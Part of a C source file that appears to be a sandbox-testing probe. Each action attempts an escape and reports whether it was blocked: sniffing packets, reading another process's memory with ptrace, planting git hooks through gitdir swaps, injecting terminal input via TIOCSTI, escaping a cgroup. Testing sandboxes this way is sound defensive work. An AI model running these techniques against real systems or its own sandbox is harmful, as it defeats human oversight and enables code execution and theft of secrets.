	return ok("i386 socketcall: %ld bytes to 127.0.0.1:%s/udp", n, sport);
}

static int do_raw_udp(const char *sport, const char *text)
{
	struct sockaddr_in a;
	if (port_addr(sport, &a) < 0)
		return usage();
	int fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_UDP);
	if (fd < 0)
		return socket_blocked("socket(AF_INET, SOCK_RAW, IPPROTO_UDP)", errno);
	unsigned char pkt[512];
	size_t n = strlen(text);
	if (n > sizeof pkt - 8)
		n = sizeof pkt - 8;
	uint16_t h[4] = {htons(40000), a.sin_port, htons((uint16_t)(8 + n)), 0 /* no checksum */};
	memcpy(pkt, h, 8);
	memcpy(pkt + 8, text, n);
	a.sin_port = 0;
	if (sendto(fd, pkt, 8 + n, 0, (struct sockaddr *)&a, sizeof a) < 0)
		return blocked("sendto", errno);
	return ok("a hand-made UDP datagram of %zu bytes to 127.0.0.1:%s", n, sport);
}

static int do_netlink_links(void)
{
	int fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE);
	if (fd < 0)
		return socket_blocked("socket(AF_NETLINK, NETLINK_ROUTE)", errno);
	struct {
		struct nlmsghdr nh;
		struct ifinfomsg ifm;
	} req;
	memset(&req, 0, sizeof req);
	req.nh.nlmsg_len = sizeof req;
	req.nh.nlmsg_type = RTM_GETLINK;
	req.nh.nlmsg_flags = NLM_F_REQUEST | NLM_F_DUMP;
	req.nh.nlmsg_seq = 1;
	req.ifm.ifi_family = AF_UNSPEC;
	if (send(fd, &req, sizeof req, 0) < 0)
		return blocked("send", errno);
	static char buf[65536];
	int links = 0;
	for (;;) {
		ssize_t n = recv(fd, buf, sizeof buf, 0);
		if (n < 0)
			return blocked("recv", errno);
		for (struct nlmsghdr *h = (struct nlmsghdr *)buf; NLMSG_OK(h, (size_t)n);
		     h = NLMSG_NEXT(h, n)) {
			if (h->nlmsg_type == NLMSG_DONE)
				goto done;
			if (h->nlmsg_type == NLMSG_ERROR)
				return blocked("RTM_GETLINK", EIO);
			if (h->nlmsg_type != RTM_NEWLINK)
				continue;
			struct ifinfomsg *ifm = NLMSG_DATA(h);
			int len = (int)IFLA_PAYLOAD(h);
			for (struct rtattr *at = IFLA_RTA(ifm); RTA_OK(at, len); at = RTA_NEXT(at, len))
				if (at->rta_type == IFLA_IFNAME) {
					printf("link: %s\n", (char *)RTA_DATA(at));
					links++;
				}
		}
	}
done:
	return ok("%d network interfaces", links);
}

static int do_packet_sniff(const char *ssecs, const char *marker)
{
	long secs;
	if (probe_number(ssecs, 0, &secs) < 0 || secs < 1 || secs > 60)
		return usage();
	int fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, htons(ETH_P_ALL));
	if (fd < 0)
		return socket_blocked("socket(AF_PACKET, SOCK_RAW)", errno);
	printf("sniffing\n");
	fflush(stdout);
	struct timespec t0;
	now(&t0);
	static unsigned char buf[65536];
	size_t ml = strlen(marker);
	long left;
	while ((left = secs * 1000 - ms_since(&t0)) > 0) {
		struct pollfd p = {fd, POLLIN, 0};
		if (poll(&p, 1, (int)left) <= 0)
			continue;
		ssize_t n = recv(fd, buf, sizeof buf, 0);
		if (n <= 0)
			continue;
		unsigned char *hit = memmem(buf, (size_t)n, marker, ml);
		if (hit) {
			char text[512];
			size_t rest = (size_t)(buf + n - hit);
			escape(text, sizeof text, hit, rest < 100 ? rest : 100);
			return ok("captured another process's packet: %s", text);
		}
	}
	return blocked("capture", ETIMEDOUT);
}

/* ---- the hijacked program: processes ------------------------------------ */

/* ptrace() or process_vm_readv() failed with EPERM: the same call on a pid
 * that cannot exist fails with ESRCH in the kernel, EPERM in a filter */
static void why_ptrace(int e, int vm)
{
	if (e != EPERM)
		return;
	errno = 0;
	long r;
	if (vm) {
		char c;
		struct iovec l = {&c, 1}, rv = {(void *)4096, 1};
		r = syscall(SYS_process_vm_readv, NO_PID, &l, 1UL, &rv, 1UL, 0UL);
	} else {
		r = syscall(SYS_ptrace, PTRACE_ATTACH, NO_PID, 0L, 0L);
	}
	if (r < 0 && errno == EPERM)
		hint("%s on a pid that cannot exist fails with EPERM too (the kernel says "
		     "ESRCH): refused before the kernel, by seccomp",
		     vm ? "process_vm_readv" : "ptrace");
	else if (r < 0)
		hint("%s on a pid that cannot exist: %s (reaches the kernel)",
		     vm ? "process_vm_readv" : "ptrace", ename(errno));
}

static int do_kill(const char *spid, const char *ssig)
{
	long pid, sig;
	if (probe_number(spid, 0, &pid) < 0 || probe_number(ssig, 0, &sig) < 0 || pid <= 0)
		return usage();
	if (syscall(SYS_kill, (pid_t)pid, (int)sig) < 0) {
		int e = errno;
		if (syscall(SYS_kill, getpid(), 0) == 0)
			hint("kill(own pid, 0) works: kill() is not filtered; the target is "
			     "refused");
		return blocked("kill", e);
	}
	return ok("signal %ld sent to pid %ld", sig, pid);
}

static int addr_args(const char *spid, const char *saddr, const char *slen, long *pid,
		     long *addr, long *len)
{
	if (probe_number(spid, 0, pid) < 0 || probe_number(saddr, 0, addr) < 0 || probe_number(slen, 0, len) < 0 ||
	    *pid <= 0 || *len < 1 || *len > 255)
		return -1;
	return 0;
}

static int do_ptrace_read(const char *spid, const char *saddr, const char *slen)
{
	long pid, addr, len;
	if (addr_args(spid, saddr, slen, &pid, &addr, &len) < 0)
		return usage();
	if (syscall(SYS_ptrace, PTRACE_ATTACH, (pid_t)pid, 0L, 0L) < 0) {
		int e = errno;
		why_ptrace(e, 0);
		return blocked("ptrace(PTRACE_ATTACH)", e);
	}
	int st;
	if (waitpid((pid_t)pid, &st, __WALL) < 0)
		return blocked("waitpid", errno);
	char buf[264];
	memset(buf, 0, sizeof buf);
	for (long off = 0; off < len; off += (long)sizeof(long)) {
		long w;
		errno = 0;
		if (syscall(SYS_ptrace, PTRACE_PEEKDATA, (pid_t)pid, addr + off, &w) < 0)
			return blocked("ptrace(PTRACE_PEEKDATA)", errno);
		memcpy(buf + off, &w, sizeof w);
	}
	buf[len] = '\0';
	syscall(SYS_ptrace, PTRACE_DETACH, (pid_t)pid, 0L, 0L);
	return ok("read pid %ld's memory: %s", pid, buf);
}

static int do_vm_read(const char *spid, const char *saddr, const char *slen)
{
	long pid, addr, len;
	if (addr_args(spid, saddr, slen, &pid, &addr, &len) < 0)
		return usage();
	char buf[256];
	memset(buf, 0, sizeof buf);
	struct iovec l = {buf, (size_t)len}, r = {(void *)addr, (size_t)len};
	if (syscall(SYS_process_vm_readv, (pid_t)pid, &l, 1UL, &r, 1UL, 0UL) < 0) {
		int e = errno;
		why_ptrace(e, 1);
		return blocked("process_vm_readv", e);
	}
	return ok("read pid %ld's memory: %s", pid, buf);
}

/* ---- the hijacked program: files ---------------------------------------- */

static int do_append(const char *file, const char *text)
{
	int fd = open(file, O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC, 0644);
	if (fd < 0) {
		int e = errno;
		why_file(file, e, 1);
		return blocked("open", e);
	}
	if (write_all(fd, text, strlen(text)) < 0 || write_all(fd, "\n", 1) < 0)
		return blocked("write", errno);
	close(fd);
	return ok("appended to %s", file);
}

static int do_replace(const char *file, const char *text)
{
	if (unlink(file) < 0) {
		int e = errno;
		char dir[4096];
		snprintf(dir, sizeof dir, "%s", file);
		char *slash = strrchr(dir, '/');
		if (slash && slash != dir)
			*slash = '\0';
		else
			snprintf(dir, sizeof dir, "%s", slash ? "/" : ".");
		why_file(dir, e, 1); /* unlinking needs write on the directory */
		return blocked("unlink", e);
	}
	int fd = open(file, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
	if (fd < 0)
		return blocked("create", errno);
	if (write_all(fd, text, strlen(text)) < 0 || write_all(fd, "\n", 1) < 0)
		return blocked("write", errno);
	close(fd);
	return ok("replaced %s", file);
}

static int write_hook(const char *file, const char *text)
{
	int fd = open(file, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
	if (fd < 0) {
		int e = errno;
		why_file(file, e, 1);
		return blocked("create the hook", e);
	}
	char buf[4200];
	snprintf(buf, sizeof buf, "#!/bin/sh\n%s\n", text);
	if (write_all(fd, buf, strlen(buf)) < 0 || fchmod(fd, 0755) < 0)
		return blocked("write the hook", errno);
	close(fd);
	return ok("wrote %s", file);
}

/* The git dir of a submodule not initialised yet, made ahead with a hook:
 * `git submodule update --init` later takes it as it is and runs the hook. */
static int do_plant_gitdir(const char *gitdir, const char *name, const char *text)
{
	char dir[4096], hook[4200];
	const char *parts[] = {"modules", name, "hooks"};
	snprintf(dir, sizeof dir, "%s", gitdir);
	for (size_t i = 0; i < 3; i++) {
		size_t n = strlen(dir);
		snprintf(dir + n, sizeof dir - n, "/%s", parts[i]);
		if (mkdir(dir, 0755) < 0 && errno != EEXIST) {
			int e = errno;
			char step[4200];
			snprintf(step, sizeof step, "mkdir %s", dir);
			why_file(gitdir, e, 1);
			return blocked(step, e);
		}
	}
	snprintf(hook, sizeof hook, "%s/post-checkout", dir);
	return write_hook(hook, text);
}

static int do_hooks_swap(const char *gitdir, const char *text)
{
	char hooks[4096], old[4096], hook[4200];
	snprintf(hooks, sizeof hooks, "%s/hooks", gitdir);
	snprintf(old, sizeof old, "%s/hooks.orig", gitdir);
	snprintf(hook, sizeof hook, "%s/pre-commit", hooks);
	if (rename(hooks, old) < 0) {
		int e = errno;
		why_file(gitdir, e, 1);
		return blocked("rename hooks hooks.orig", e);
	}
	if (mkdir(hooks, 0755) < 0)
		return blocked("mkdir hooks", errno);
	return write_hook(hook, text);
}

static int do_gitdir_swap(const char *ws, const char *text)
{
	char git[4096], orig[4096], hook[4200];
	snprintf(git, sizeof git, "%s/.git", ws);
	snprintf(orig, sizeof orig, "%s/.git.orig", ws);
	if (rename(git, orig) < 0) {
		int e = errno;
		why_file(ws, e, 1);
		return blocked("rename .git .git.orig", e);
	}
	/* .git as a file: "gitdir: PATH" makes git use PATH, hooks and config */
	int fd = open(git, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
	if (fd < 0)
		return blocked("create the .git file", errno);
	static const char line[] = "gitdir: .git.orig\n";
	if (write_all(fd, line, sizeof line - 1) < 0)
		return blocked("write the .git file", errno);
	close(fd);
	/* the hooks directory under its new name: no rule of this run names it */
	snprintf(hook, sizeof hook, "%s/.git.orig/hooks/pre-commit", ws);
	if (write_hook(hook, text) != 0)
		return 1;
	return ok("%s/.git now points at .git.orig, with a pre-commit hook", ws);
}

static int do_config_launder(const char *config, const char *tmp, const char *text)
{
	if (rename(config, tmp) < 0) {
		int e = errno;
		why_file(config, e, 1);
		return blocked("rename the config out", e);
	}
	int r = do_append(tmp, text);
	if (rename(tmp, config) < 0)
		return blocked("rename the config back", errno);
	return r ? r : ok("%s changed by way of %s", config, tmp);
}

static int do_symlink_read(const char *target, const char *path)
{
	if (symlink(target, path) < 0) {
		int e = errno;
		why_file(path, e, 1);
		return blocked("symlink", e);
	}
	return do_read(path);
}

static int do_link_read(const char *target, const char *path)
{
	if (link(target, path) < 0) {
		int e = errno;
		if (e == EXDEV)
			hint("link() across one filesystem failed with EXDEV: Landlock refuses "
			     "links that would give the file more access");
		why_file(target, e, 0);
		return blocked("link", e);
	}
	return do_read(path);
}

static int do_rename_read(const char *from, const char *to)
{
	if (rename(from, to) < 0) {
		int e = errno;
		if (e == EXDEV)
			hint("rename() within one filesystem failed with EXDEV: Landlock refuses "
			     "moves that would give the file more access");
		why_file(from, e, 1);
		return blocked("rename", e);
	}
	return do_read(to);
}

/* ---- the hijacked program: the terminal and the cgroup ------------------ */

static int tty_nr(void)
{
	FILE *f = fopen("/proc/self/stat", "re");
	if (!f)
		return -1;
	char buf[1024];
	size_t n = fread(buf, 1, sizeof buf - 1, f);
	fclose(f);
	buf[n] = '\0';
	char *p = strrchr(buf, ')');
	int ppid, pgrp, session, tty;
	char st;
	if (!p || sscanf(p + 1, " %c %d %d %d %d", &st, &ppid, &pgrp, &session, &tty) != 5)
		return -1;
	return tty;
}

static int do_tiocsti(const char *text)
{
	if (!isatty(0))
		return blocked("standard input is no terminal", ENOTTY);
	size_t n = strlen(text);
	for (size_t i = 0; i <= n; i++) {
		char c = i < n ? text[i] : '\n';
		if (ioctl(0, TIOCSTI, &c) < 0) {
			int e = errno;
			int nul = open("/dev/null", O_RDWR | O_CLOEXEC);
			if (nul >= 0) {
				errno = 0;
				if (ioctl(nul, TIOCSTI, &c) < 0 && errno == EPERM)
					hint("TIOCSTI on /dev/null fails with EPERM too (the tty layer "
					     "says ENOTTY): refused before the kernel, by seccomp");
				close(nul);
			}
			int t = tty_nr();
			if (t == 0)
				hint("no controlling terminal (tty_nr 0): the kernel refuses TIOCSTI "
				     "on any other terminal (setsid)");
			else if (t > 0)
				hint("controlling terminal: tty_nr %d", t);
			char step[64];
			snprintf(step, sizeof step, "ioctl(0, TIOCSTI) (byte %zu)", i);
			return blocked(step, e);
		}
	}
	return ok("pushed %zu bytes into the terminal's input", n + 1);
}

static int print_own_cgroup(const char *ctl)
{
	FILE *f = fopen("/proc/self/cgroup", "re");
	char line[512];
	int found = 0;
	while (f && fgets(line, sizeof line, f)) {
		char *c = strchr(line, ':');
		if (c && strncmp(c + 1, ctl, strlen(ctl)) == 0 && c[1 + strlen(ctl)] == ':') {
			printf("cgroup: %s", line);
			found = 1;
		}
	}
	if (f)
		fclose(f);
	return found;
}

static int do_cgroup_escape(const char *procs)
{
	print_own_cgroup("pids");
	int fd = open(procs, O_WRONLY | O_CLOEXEC);
	if (fd < 0) {
		int e = errno;
		why_file(procs, e, 1);
		return blocked("open", e);
	}
	if (write_all(fd, "0\n", 2) < 0)
		return blocked("write", errno);
	close(fd);
	print_own_cgroup("pids");
	return ok("moved itself into %s", procs);
}

/* ---- helpers, outside the sandbox --------------------------------------- */

static void log_line(const char *log, const char *kind, const unsigned char *s, size_t n)
{
	char text[2200], line[2300];
	escape(text, sizeof text, s, n);
	snprintf(line, sizeof line, "%s: %s\n", kind, text);
	int fd = open(log, O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC, 0644);
	if (fd >= 0) {
		write_all(fd, line, strlen(line));
		close(fd);
	}
}

static int do_listen(const char *kind, const char *addr, const char *log, const char *ready)
{
	char text[32];
	int type, fd = probe_listen(kind, addr, &type, text);
	if (fd == -2)
		return usage();
	if (fd < 0)
		return blocked("listen", errno);
	if (probe_put_file(ready, text) < 0)
		return blocked("write the ready file", errno);
	static unsigned char buf[2048];
	for (;;) {
		if (type == SOCK_DGRAM) {
			ssize_t n = recv(fd, buf, sizeof buf, 0);
			if (n >= 0)
				log_line(log, kind, buf, (size_t)n);
			continue;
		}
		int c = accept4(fd, NULL, NULL, SOCK_CLOEXEC);
		if (c < 0)
			continue;
		struct timeval tv = {2, 0};
		setsockopt(c, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
		size_t got = 0;
		ssize_t n;
		while (got < sizeof buf && (n = read(c, buf + got, sizeof buf - got)) > 0)
			got += (size_t)n;
		log_line(log, kind, buf, got);
		close(c);
	}
}

static char victim_secret[256];

static int do_victim(const char *secret, const char *pidfile)
{
	snprintf(victim_secret, sizeof victim_secret, "%s", secret);
	char buf[128];
	snprintf(buf, sizeof buf, "%d %#lx %zu\n", (int)getpid(), (unsigned long)(uintptr_t)victim_secret,
		 strlen(victim_secret));
	if (probe_put_file(pidfile, buf) < 0)
		return blocked("write the pid file", errno);
	for (;;)
		pause();
}

static int do_pty_host(const char *log, char **cmd)
{
	int m = posix_openpt(O_RDWR | O_NOCTTY | O_CLOEXEC);
	if (m < 0 || grantpt(m) < 0 || unlockpt(m) < 0)
		return blocked("posix_openpt", errno);
	const char *name = ptsname(m);
	if (!name)
		return blocked("ptsname", errno);
	char slave[64];
	snprintf(slave, sizeof slave, "%s", name);
	/* this end stays open, so the input queue outlives the command */
	int s = open(slave, O_RDWR | O_NOCTTY | O_CLOEXEC);
	struct termios t;
	if (s < 0 || tcgetattr(s, &t) < 0)
		return blocked("open the terminal", errno);
	cfmakeraw(&t);
	if (tcsetattr(s, TCSANOW, &t) < 0)
		return blocked("tcsetattr", errno);
	fflush(stdout);
	pid_t c = fork();
	if (c < 0)
		return blocked("fork", errno);
	if (c == 0) {
		if (setsid() < 0)
			_exit(125);
		int fd = open(slave, O_RDWR); /* the session's controlling terminal */
		if (fd < 0 || ioctl(fd, TIOCSCTTY, 0) < 0)
			_exit(125);
		dup2(fd, 0), dup2(fd, 1), dup2(fd, 2);
		if (fd > 2)
			close(fd);
		execvp(cmd[0], cmd);
		_exit(127);
	}
	static unsigned char buf[4096];
	int st = 0, done = 0;
	for (;;) {
		struct pollfd p = {m, POLLIN, 0};
		int r = poll(&p, 1, done ? 200 : 50);
		if (r > 0) {
			ssize_t n = read(m, buf, sizeof buf);
			if (n > 0) {
				write_all(1, buf, (size_t)n);
				continue;
			}
		}
		if (done)
			break;
		if (waitpid(c, &st, WNOHANG) == c)
			done = 1;
	}
	/* what the command left in the terminal's input: the user's shell
	 * would read and run it next */
	int fl = fcntl(s, F_GETFL);
	fcntl(s, F_SETFL, fl | O_NONBLOCK);
	ssize_t n = read(s, buf, sizeof buf);
	if (n > 0)
		log_line(log, "injected", buf, (size_t)n);
	if (WIFSIGNALED(st))
		return 128 + WTERMSIG(st);
	return WEXITSTATUS(st);
}

int main(int argc, char **argv)
{
	if (argc < 2)
		return usage();
	action = argv[1];
	const char *a = argv[1];
	int n = argc - 2;
	char **o = argv + 2;
	setvbuf(stdout, NULL, _IOLBF, 0);
#define IS(name, count) (strcmp(a, name) == 0 && n == (count))
	if (IS("forkbomb", 2))
		return do_forkbomb(o[0], o[1]);
	if (IS("hog", 3))
		return do_hog(o[0], o[1], o[2]);
	if (IS("spin", 0))
		spin();
	if (IS("spin-detached", 1))
		return do_spin_detached(o[0]);
	if (IS("fill", 3))
		return do_fill(o[0], o[1], o[2]);
	if (IS("fill-unlimited", 2))
		return do_fill_unlimited(o[0], o[1]);
	if (IS("fill-fallocate", 3))
		return do_fill_fallocate(o[0], o[1], o[2]);
	if (IS("fill-inodes", 2))
		return do_fill_inodes(o[0], o[1]);
	if (IS("env-dump", 0))
		return do_env_dump();
	if (IS("read", 1))
		return do_read(o[0]);
	if (strcmp(a, "scan") == 0 && n >= 1)
		return do_scan(n, o);
	if (IS("parent-environ", 0))
		return do_parent_environ();
	if (IS("read-fd", 1))
		return do_read_fd(o[0]);
	if (IS("tcp-send", 2))
		return do_tcp_send(o[0], o[1]);
	if (IS("udp-send", 2))
		return do_udp_send(o[0], o[1]);
	if (IS("dns-send", 2))
		return do_dns_send(o[0], o[1]);
	if (IS("unix-send", 2))
		return do_unix_send(o[0], 0, o[1]);
	if (IS("abstract-send", 2))
		return do_unix_send(o[0], 1, o[1]);
	if (IS("io-uring-udp", 2))
		return do_io_uring_udp(o[0], o[1]);
	if (IS("x32-udp", 2))
		return do_x32_udp(o[0], o[1]);
	if (IS("i386-udp", 2))
		return do_i386_udp(o[0], o[1]);
	if (IS("raw-udp", 2))
		return do_raw_udp(o[0], o[1]);
	if (IS("netlink-links", 0))
		return do_netlink_links();
	if (IS("packet-sniff", 2))
		return do_packet_sniff(o[0], o[1]);
	if (IS("kill", 2))
		return do_kill(o[0], o[1]);
	if (IS("ptrace-read", 3))
		return do_ptrace_read(o[0], o[1], o[2]);
	if (IS("vm-read", 3))
		return do_vm_read(o[0], o[1], o[2]);
	if (IS("append", 2))
		return do_append(o[0], o[1]);
	if (IS("replace", 2))
		return do_replace(o[0], o[1]);
	if (IS("hook", 2))
		return write_hook(o[0], o[1]);
	if (IS("plant-gitdir", 3))
		return do_plant_gitdir(o[0], o[1], o[2]);
	if (IS("hooks-swap", 2))
		return do_hooks_swap(o[0], o[1]);
	if (IS("gitdir-swap", 2))
		return do_gitdir_swap(o[0], o[1]);
	if (IS("config-launder", 3))
		return do_config_launder(o[0], o[1], o[2]);
	if (IS("tiocsti", 1))
		return do_tiocsti(o[0]);
	if (IS("symlink-read", 2))
		return do_symlink_read(o[0], o[1]);
	if (IS("link-read", 2))
		return do_link_read(o[0], o[1]);
	if (IS("rename-read", 2))
		return do_rename_read(o[0], o[1]);
	if (IS("cgroup-escape", 1))
		return do_cgroup_escape(o[0]);
	if (IS("listen", 4))
		return do_listen(o[0], o[1], o[2], o[3]);
	if (IS("victim", 2))
		return do_victim(o[0], o[1]);
	if (strcmp(a, "pty-host") == 0 && n >= 2)
		return do_pty_host(o[0], o + 1);
	return usage();
}
